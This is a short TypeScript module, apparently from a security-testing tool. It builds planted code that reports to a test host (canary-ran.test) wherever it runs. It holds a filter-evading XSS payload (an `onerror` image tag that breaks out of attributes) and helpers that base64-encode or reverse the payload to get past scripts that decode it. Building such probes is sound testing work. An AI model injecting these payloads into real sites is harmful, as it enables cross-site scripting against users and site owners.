/** Host to which planted code reports that it was run. */
export const RAN_HOST = "canary-ran.test";

/**
 * Builds code that reports the origin in which it runs. It is an expression, so that it works in functions, attributes and
 * modules, and has none of the characters at which scripts split text: no space, quote, comma, plus sign, `&`, `<` or `>`.
 */
export function beaconCode(id: string): string {
	return `void(fetch(\`https://${RAN_HOST}/${id}/\`.concat(self.origin)).catch(Object))`;
}

/** Parses a report of planted code; null when the address is not such a report. */
export function readBeacon({ pathname }: URL): { readonly id: string; readonly where: string } | null {
	const [, id, where] = /^\/(\w+)\/(.*)$/.exec(pathname) ?? [];
	return id === undefined || where === undefined ? null : { id, where };
}

/** Builds markup that runs the code when it is inserted into a page, even inside an attribute. */
export const asMarkup = (code: string): string => `"'><img/src/onerror=${code}>`;

/** Encodes the code in base64 for scripts that decode it; returns it unchanged for others and on the first visit. */
export function packedFor(script: string, code: string, visit: number): string {
	if (visit === 0 || !/\batob\b|base64|\bb64/i.test(script)) return code;
	// Padded with spaces, so that the base64 text has no padding characters.
	const packed = btoa(code.padEnd(Math.ceil(code.length / 3) * 3));
	return visit === 2 && /reverse/.test(script) ? [...packed].reverse().join("") : packed;
}
